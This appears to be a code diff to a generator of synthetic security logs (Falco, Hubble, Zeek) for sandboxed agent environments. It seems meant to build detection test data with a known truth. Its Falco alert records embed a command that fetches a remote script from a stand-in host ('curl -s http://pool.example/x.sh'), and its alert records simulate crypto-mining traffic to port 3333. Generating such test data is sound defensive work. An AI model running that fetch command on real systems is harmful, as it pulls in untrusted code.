@@ -1,5 +1,5 @@
 // One record of each kind of log, in the format's own grammar. All addresses are private or for documentation.
-import { ale } from './ale.mjs';
+import { ale, sls } from './ale.mjs';
 import { iso } from './time.mjs';
 
 const SITES = [
@@ -82,8 +82,81 @@ function auditd({ n, at, sandbox, random }) {
   return `type=SYSCALL msg=audit(${stamp}): arch=c000003e syscall=59 success=yes exit=0 a0=7f98 a1=7f98 a2=7f98 a3=7f98 items=2 ${common} key="rock_exec"\ntype=EXECVE msg=audit(${stamp}): argc=3 a0="python3" a1="/repo/run_${n % 300}.py" a2="--seed"\ntype=CWD msg=audit(${stamp}): cwd="/repo"\ntype=PATH msg=audit(${stamp}): item=0 name="/usr/bin/python3" inode=260104 dev=fe:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0\ntype=PROCTITLE msg=audit(${stamp}): proctitle=707974686F6E33002F7265706F2F72756E2E7079`;
 }
 
-function falco({ n, at, sandbox, random }) {
-  return `{"hostname":"${sandbox.host}","output":"${iso(at)}: Notice Unexpected connection","priority":"Informational","rule":"Outbound connection","source":"syscall","tags":["network"],"time":"${iso(at)}","output_fields":{"container.id":"${sandbox.id.padEnd(12, '0')}","evt.time":${Math.floor(at / 1e3) * 1e6},"evt.type":"connect","fd.name":"${sandbox.ip}:${port(random)}->${pick(GOOD, random)}:443","fd.sip":"${pick(GOOD, random)}","fd.sport":443,"proc.cmdline":"python3 /repo/run_${n % 300}.py","proc.name":"python3","proc.pid":${30000 + (n % 20000)},"proc.ppid":${sandbox.pid},"user.uid":${sandbox.pid}}}`;
+/** Falco with a site's own rules: programs and files by far the most, connections few. */
+function falco({ n, at, sandbox, alert, random }) {
+  const command = alert ? 'curl -s http://pool.example/x.sh' : `python3 /repo/run_${n % 300}.py --seed ${n % 300}`;
+  const [rule, fd] = alert
+    ? [
+        'Outbound connection',
+        `"fd.l4proto":"tcp","fd.name":"${sandbox.ip}:${port(random)}->${pick(BAD, random)}:3333",`,
+      ]
+    : pick(FALCO_RULES, random);
+  return `{"hostname":"${sandbox.host}","output":"${iso(at).slice(11, 23)}: Notice ${rule} (user=agent command=${command} container=${sandbox.id})","output_fields":{"container.id":"${sandbox.id.padEnd(12, '0')}","container.image.repository":"registry.example/swe/sandbox","evt.time":${Math.floor(at / 1e3) * 1e6},${fd}"proc.cmdline":"${command}","proc.exepath":"/usr/bin/python3.12","proc.name":"python3","proc.pid":${30000 + (n % 20000)},"proc.pname":"bash","proc.ppid":${sandbox.pid},"user.name":"agent","user.uid":${sandbox.pid}},"priority":"Notice","rule":"${rule}","source":"syscall","tags":["container","mitre_execution"],"time":"${iso(at)}"}`;
+}
+
+const FALCO_RULES = [
+  ['Program started in sandbox', ''],
+  ['Program started in sandbox', ''],
+  ['Package manager in sandbox', ''],
+  ['Write below repository', '"fd.name":"/repo/build/out.o",'],
+];
+
+/** Hubble's exporter in jsonpb: packets of sandbox pods with both ends. */
+function hubble({ n, at, sandbox, alert, random }) {
+  const hex = filler(n);
+  const pod = `"ID":${1000 + sandbox.pid},"identity":31007,"cluster_name":"default","namespace":"rollouts","labels":["k8s:app=sandbox","k8s:io.kubernetes.pod.namespace=rollouts","k8s:run=swe"],"pod_name":"${sandbox.id}","workloads":[{"name":"sandbox","kind":"StatefulSet"}]`;
+  const world = '"identity":2,"labels":["reserved:world"]';
+  const p = port(random);
+  const far = alert ? pick(BAD, random) : pick(GOOD, random);
+  const site = pick(SITES, random);
+  const head = `{"flow":{"time":"${iso(at)}","uuid":"${hex.slice(0, 8)}-${hex.slice(8, 12)}-4000-8000-${hex.slice(12, 24)}","verdict":"${alert ? 'DROPPED' : 'FORWARDED'}",${alert ? '"drop_reason":181,' : ''}"ethernet":{"source":"02:42:0a:42:00:01","destination":"02:42:0a:42:00:02"}`;
+  const tail = `},"node_name":"gpu/${sandbox.host}","time":"${iso(at)}"}`;
+  const common = `"Type":"L3_L4","node_name":"gpu/${sandbox.host}"`;
+  if (alert)
+    return `${head},"IP":{"source":"${sandbox.ip}","destination":"${far}","ipVersion":"IPv4"},"l4":{"TCP":{"source_port":${p},"destination_port":3333,"flags":{"SYN":true}}},"source":{${pod}},"destination":{${world}},${common},"event_type":{"type":5},"traffic_direction":"EGRESS","drop_reason_desc":"POLICY_DENY","is_reply":false,"egress_denied_by":[{"name":"deny-world","namespace":"rollouts","revision":"6"}],"Summary":"TCP Flags: SYN"${tail}`;
+  const roll = random();
+  if (roll < 0.15)
+    return `${head},"IP":{"source":"${sandbox.ip}","destination":"10.77.0.53","ipVersion":"IPv4"},"l4":{"UDP":{"source_port":${p},"destination_port":53}},"source":{${pod}},"destination":{"identity":9,"namespace":"kube-system","pod_name":"coredns-1"},"Type":"L7","node_name":"gpu/${sandbox.host}","l7":{"type":"REQUEST","dns":{"query":"${site}.","observation_source":"proxy","qtypes":["A"]}},"event_type":{"type":129},"traffic_direction":"EGRESS","is_reply":false,"Summary":"DNS Query ${site}. A"${tail}`;
+  const flags = pick(['"SYN":true', '"ACK":true', '"PSH":true,"ACK":true', '"FIN":true,"ACK":true'], random);
+  if (roll < 0.55)
+    return `${head},"IP":{"source":"${sandbox.ip}","destination":"${far}","ipVersion":"IPv4"},"l4":{"TCP":{"source_port":${p},"destination_port":443,"flags":{${flags}}}},"source":{${pod}},"destination":{${world}},${common},"destination_names":["${site}"],"event_type":{"type":4,"sub_type":3},"traffic_direction":"EGRESS","trace_observation_point":"TO_STACK","trace_reason":"ESTABLISHED","is_reply":false,"Summary":"TCP Flags: ${flags.replace(/[":]|true/g, '')}"${tail}`;
+  return `${head},"IP":{"source":"${far}","destination":"${sandbox.ip}","ipVersion":"IPv4"},"l4":{"TCP":{"source_port":443,"destination_port":${p},"flags":{"ACK":true}}},"source":{${world}},"destination":{${pod}},${common},"source_names":["${site}"],"reply":true,"event_type":{"type":4},"traffic_direction":"INGRESS","trace_observation_point":"TO_ENDPOINT","interface":{"index":13,"name":"lxc7f"},"is_reply":true,"Summary":"TCP Flags: ACK"${tail}`;
+}
+
+const zeekHead = (path, fields, types) =>
+  `#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\t${path}\n#open\t2026-11-23-20-00-00\n#fields\t${fields.replaceAll(' ', '\t')}\n#types\t${types.replaceAll(' ', '\t')}`;
+const CONN_HEAD = zeekHead(
+  'conn',
+  'ts uid id.orig_h id.orig_p id.resp_h id.resp_p proto service duration orig_bytes resp_bytes conn_state local_orig local_resp missed_bytes history orig_pkts orig_ip_bytes resp_pkts resp_ip_bytes tunnel_parents',
+  'time string addr port addr port enum string interval count count string bool bool count string count count count count set[string]',
+);
+const DNS_HEAD = zeekHead(
+  'dns',
+  'ts uid id.orig_h id.orig_p id.resp_h id.resp_p proto trans_id rtt query qclass qclass_name qtype qtype_name rcode rcode_name AA TC RD RA Z answers TTLs rejected',
+  'time string addr port addr port enum count interval string count string count string count string bool bool bool bool count vector[string] vector[interval] bool',
+);
+const stamp = (us) => `${Math.floor(us / 1e6)}.${String(Math.floor(us % 1e6)).padStart(6, '0')}`;
+const uid = (n) => `C${filler(n).slice(0, 17)}`;
+
+function zeekConn({ n, at, sandbox, random }) {
+  return `${stamp(at)}\t${uid(n)}\t${sandbox.ip}\t${port(random)}\t${pick(GOOD, random)}\t443\ttcp\tssl\t${((n % 9000) / 1000).toFixed(6)}\t${n % 9000}\t${n % 900000}\tSF\tT\tF\t0\tShADadFf\t${n % 90}\t${n % 9999}\t${n % 80}\t${n % 99999}\t-`;
+}
+
+function zeekDns({ n, at, sandbox, random }) {
+  return `${stamp(at)}\t${uid(n)}\t${sandbox.ip}\t${port(random)}\t10.77.0.53\t53\tudp\t${n % 65536}\t0.000652\t${pick(SITES, random)}\t1\tC_INTERNET\t1\tA\t0\tNOERROR\tF\tF\tT\tT\t0\t${pick(GOOD, random)}\t300.000000\tF`;
+}
+
+/** The same logs as a JSON writer names them; a proxyless sandbox mostly talks TLS. */
+function zeekJson({ n, at, sandbox, alert, random }) {
+  const head = `"ts":${stamp(at)},"uid":"${uid(n)}","id.orig_h":"${sandbox.ip}","id.orig_p":${port(random)},"id.resp_h":"${pick(alert ? BAD : GOOD, random)}"`;
+  if (alert)
+    return `{"_path":"notice",${head},"id.resp_p":3333,"proto":"tcp","note":"Mining::Stratum","msg":"mining subscribe seen","src":"${sandbox.ip}","actions":["Notice::ACTION_LOG"],"suppress_for":3600.0}`;
+  const roll = random();
+  if (roll < 0.6)
+    return `{"_path":"conn",${head},"id.resp_p":443,"proto":"tcp","service":"ssl","duration":${(n % 9000) / 1000},"orig_bytes":${n % 9000},"resp_bytes":${n % 900000},"conn_state":"SF","local_orig":true,"local_resp":false,"missed_bytes":0,"history":"ShADadFf","orig_pkts":${n % 90},"orig_ip_bytes":${n % 9999},"resp_pkts":${n % 80},"resp_ip_bytes":${n % 99999}}`;
+  if (roll < 0.85)
+    return `{"_path":"ssl",${head},"id.resp_p":443,"version":"TLSv13","cipher":"TLS_AES_128_GCM_SHA256","curve":"x25519","server_name":"${pick(SITES, random)}","resumed":false,"next_protocol":"h2","established":true,"ssl_history":"CsiI"}`;
+  return `{"_path":"http",${head},"id.resp_p":80,"trans_depth":1,"method":"GET","host":"${pick(SITES, random)}","uri":"/simple/${n % 1000}/index.html","version":"1.1","user_agent":"pip/24.0","request_body_len":0,"response_body_len":${n % 9000},"status_code":200,"status_msg":"OK","tags":[]}`;
 }
 
 function panos({ n, at, sandbox, alert, random }) {
@@ -105,7 +178,7 @@ const whole = (file, line, key) => [{ file, line, key, alerts: key !== undefined
 const spread = (n) => Math.imul(n, 2654435761) >>> 0;
 
 /**
- * Name of the mix -> its logs. Each has the writer of a record, `alerts` where some of its records are violations, and `key`
+ * Name of the mix -> its logs. Each has the writer of a record, a `head` where the file begins with one, `alerts` where some of its records are violations, and `key`
  * where peers join it: what names record `n` in the log itself, so that answers can be held against the truth. Logs of one
  * mix grow by `share`.
  */
@@ -114,9 +187,16 @@ export const mixes = {
   netfilter: whole('edge-fw-kernel.log', netfilter, (n) => String(spread(n))),
   panos: whole('panos.log', panos, (n) => String(1e9 + n)),
   tetragon: whole('tetragon.json', tetragon),
-  falco: whole('falco.json', falco),
+  falco: [{ file: 'falco.json', line: falco, alerts: true }],
+  hubble: [{ file: 'hubble.json', line: hubble, alerts: true }],
+  zeek: [
+    { file: 'conn.log', share: 3, line: zeekConn, head: CONN_HEAD },
+    { file: 'dns.log', share: 1, line: zeekDns, head: DNS_HEAD },
+  ],
+  'zeek-json': [{ file: 'zeek.json', line: zeekJson, alerts: true }],
   auditd: whole('train-01-audit.log', auditd),
   conntrack: whole('train-01-conntrack.log', conntrack),
   otlp: whole('traces-otlp.jsonl', otlp),
   ale,
+  sls,
 };
